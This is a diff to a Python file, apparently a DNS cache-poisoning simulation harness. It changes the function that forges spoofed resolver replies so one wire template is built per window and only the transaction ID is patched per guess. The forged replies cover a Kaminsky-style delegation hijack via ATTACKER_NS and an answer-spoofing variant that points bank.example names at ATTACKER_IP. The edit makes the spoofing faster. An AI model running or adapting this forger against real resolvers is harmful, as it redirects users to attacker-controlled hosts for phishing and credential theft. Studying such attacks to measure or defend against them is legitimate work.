@@ -83,27 +83,27 @@ class TrialResult:
 
 
 def forger(attack: AttackName, qname: dns.name.Name) -> object:
-    """The forged reply for one guess, as the attacker builds it (lowercase name)."""
+    """The forged reply for one guess, as the attacker builds it: one template per window
+    (lowercase name), with only the transaction ID patched in per packet."""
+    query = dns.message.make_query(qname, "A")
+    reply = dns.message.make_response(query)
+    reply.id = 0
+    if attack is AttackName.KAMINSKY:
+        reply.flags &= ~dns.flags.AA
+        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
+        reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
+    else:
+        reply.flags |= dns.flags.AA
+        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", ATTACKER_IP)]
+        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", "ns1.bank.example.")]
+        reply.additional = [
+            dns.rrset.from_text("ns1.bank.example.", 86400, "IN", "A", ATTACKER_IP),
+            dns.rrset.from_text("www.bank.example.", 86400, "IN", "A", ATTACKER_IP),
+        ]
+    template = reply.to_wire()
 
     def forge(server: Address, port: int, txid: int) -> bytes:
-        query = dns.message.make_query(qname, "A")
-        reply = dns.message.make_response(query)
-        reply.id = txid
-        if attack is AttackName.KAMINSKY:
-            reply.flags &= ~dns.flags.AA
-            reply.authority = [
-                dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())
-            ]
-            reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
-        else:
-            reply.flags |= dns.flags.AA
-            reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", ATTACKER_IP)]
-            reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", "ns1.bank.example.")]
-            reply.additional = [
-                dns.rrset.from_text("ns1.bank.example.", 86400, "IN", "A", ATTACKER_IP),
-                dns.rrset.from_text("www.bank.example.", 86400, "IN", "A", ATTACKER_IP),
-            ]
-        return reply.to_wire()
+        return txid.to_bytes(2, "big") + template[2:]
 
     return forge
 
